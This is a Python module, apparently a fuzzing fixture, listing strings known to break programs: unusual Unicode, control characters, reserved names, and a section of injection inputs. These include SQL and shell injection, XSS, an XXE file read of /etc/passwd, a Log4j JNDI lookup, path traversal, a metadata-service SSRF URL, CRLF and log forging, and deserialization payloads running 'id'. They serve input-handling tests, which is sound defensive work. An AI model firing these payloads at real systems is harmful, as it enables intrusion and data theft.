"""Texts that have broken programs: by their letters, by their length, or by what somebody took them for."""

from __future__ import annotations

LETTERS = [
    # One of each Unicode category, and the ends of the planes.
    *"aA\u01c5\u02b0\u05d0", "\u0301", "\u0903", "\u20dd", "1", "\u2160", "\u00bd", "_", "-", "(", ")", "\u00ab", "\u00bb", "!", "+", "$", "^", "\u00a9", " ",
    "\u2028", "\u2029", "\x00", "\u200b", "\ue000", "\u0378", "\uffff", "\U0010ffff", "\U00010000", "\U000e0001", "\U000e0041\U000e0042", "\U0001f3f4\U000e0067\U000e0062\U000e007f",
    # Controls.
    "\x01\x02\x03", "\t", "\n", "\r", "\r\n", "\x08", "\x0b\x0c", "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x7f", "\x80\x81", "\x85", "\x9b31m", "\x1a", "\x04",
    # Direction, width, invisible.
    "\u202eevitagen\u202c", "\u202a\u202b\u202d", "\u2066\u2067\u2068\u2069", "\u200e\u200f", "\u061c", "\u200c\u200d", "\u2060\u2061\u2062", "\ufeff", "\u00ad", "\u180e", "\u115f\u1160",
    "\u05d0\u05d1 abc \u0627\u0628", "\u0627\u0644\u0639\u0631\u0628\u064a\u0629", "\ufdfd", "\uff21\uff11\uff0f", "\u3000", "\u00a0", "\u2003x\u2003", "\u034f",
    # Composed, stacked, folded, looking alike.
    "\u00e9", "e\u0301", "\u1e69", "s\u0323\u0307", "Z\u0351\u036b\u0343\u036a" * 5, "\u212a", "\u0130", "\u0131", "\u00df", "\ufb01", "\u1e9e", "\u03c2\u03a3", "\u0430dmin", "\u2044", "\u2215", "\u29f8",
    "\uff0e\uff0e\uff0f", "\u2024\u2024", "\u037e", "\uff1b", "\u2019", "\u201c\u201d", "\u0958", "\u0e33", "\u0bb8\u0bcd\u0bb0\u0bc0", "\u1100\u1161\u11a8", "\uac01",
    # Emoji, alone and in sequences; what has no meaning.
    "\U0001f642", "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466", "\U0001f3f3\ufe0f\u200d\U0001f308", "\U0001f1e9\U0001f1ea", "\U0001f44d\U0001f3ff", "1\ufe0f\u20e3", "\u2764\ufe0f", "\U0001f3ff",
    "\ufdd0", "\ufffe", "\ufffd", "\U0001fffe", "\uf8ff", "\U000f0000", "\u4e2d\u6587", "\u65e5\u672c\u8a9e", "\U00020000\U0002a6d6", "\U0001d54a", "\u0660\u0661\u0662", "\u2460", "\u0f33",
]  # fmt: skip

WORDS = [
    "null", "undefined", "None", "nil", "true", "false", "NaN", "Infinity", "-0", "0", "00", "1e1000", "0x0", "1/0", "999999999999999999999999", "-1", ".1", "1,000", "2.2250738585072012e-308", "constructor",
    "__proto__", "hasOwnProperty", "toString", "self", "ctx", "meta", "opts", "$", "$meta", "$statusCode", "$responseHeaders", "user", "__class__", "__init__", "prototype", "length", "then", "con", "nul", "aux", "com1", "lpt1", "CON.txt",
    "", " ", "  ", " a ", "a b", ".", "..", "...", "/", "\\", "//", "-", "--", "-rf", "~", "~root", "#", "?", "&", "=", "a=b", "a&b", ";", ":", "|", "*", "%", "%%", "%00", "%2e%2e%2f", "%zz", "+", "a+b", "@", "`", "'", '"', "''", '""', "\\'", "<", ">",
]  # fmt: skip

TAKEN_FOR_CODE = [
    # Format strings and templates.
    "%s%s%s%n", "%d", "%(x)s", "%x" * 20, "{}", "{0}", "{0.__class__.__mro__}", "{self.__init__.__globals__}", "{x!r:>99999}", "${7*7}", "{{7*7}}", "#{7*7}", "<%= 7*7 %>", "${jndi:ldap://example.test/a}", "{% debug %}", "$(id)", "`id`", "$((1+1))", "@{x}", "[[${x}]]", "*{7*7}",
    # SQL, NoSQL, LDAP, XPath, shells.
    "' OR '1'='1", "'; DROP TABLE users; --", '" OR ""="', "1; SELECT pg_sleep(9)", "admin'--", "') UNION SELECT NULL,NULL--", "1' AND SLEEP(5)#", "{\"$gt\":\"\"}", "[$ne]=1", "*)(uid=*))(|(uid=*", "' or count(/*)>0 or '", "; ls -la", "| cat /etc/passwd", "&& whoami", "\nls", "$HOME", "%PATH%", "a;b", "`sleep 9`", "-oProxyCommand=x",
    # HTML, scripts, style sheets, XML.
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><svg/onload=alert(1)>", "javascript:alert(1)", "</textarea><script>", "<!--", "-->", "]]>", "<![CDATA[x]]>", "&lt;&#60;&#x3c;", "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>", "expression(alert(1))", "<iframe src=//example.test>", "data:text/html,<script>", "';alert(1)//",
    # Paths and addresses.
    "../../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "file:///etc/passwd", "C:\\con\\con", "\\\\host\\share", "//example.test", "http://169.254.169.254/", "http://[::1]/", "....//....//", "a/../b", ".htaccess", "a.php\x00.png", "%c0%ae%c0%ae/", "/proc/self/environ", "php://filter",
    # What could become a subject, a log line, a header or a key of somebody else's.
    "a.b.c", "MOL.REQ.x", "*", ">", "a.>", "MOL.REQ.*", "a b.c", "x\r\nPUB MOL.REQ 2\r\n{}\r\n", "\r\nSet-Cookie: a=b", "\nERROR tautomer.web: forged", "2026-01-01 00:00:00.000 ERROR tautomer: forged", "key|other", "a\x1fb", "users.get:1", "*5\r\n$4\r\nEVAL\r\n",
    # Long ones, and such as cost a careless pattern its time.
    "a" * 3_000, "\u00e9" * 1_000, "(" * 500, "a" * 100 + "!", "((a+)+)+$", "^(.*)*$", "\U0001f642" * 300, "0" * 2_000, "[" * 200, "\\" * 500, "%" * 500, "'" * 1_000, "\u0301" * 500, " " * 1_000 + "x",
    # Programs that were sent around.
    "cos\nsystem\n(S'id'\ntR.", "\x80\x04\x95.", "O:8:\"stdClass\":0:{}", "rO0ABXNy", "!!python/object/apply:os.system ['id']", "_$$ND_FUNC$$_function(){}()", "__import__('os').system('id')", "eval(x)", "require('fs')", "constructor.constructor('x')()",
]  # fmt: skip

NAUGHTY = list(dict.fromkeys(LETTERS + WORDS + TAKEN_FOR_CODE))
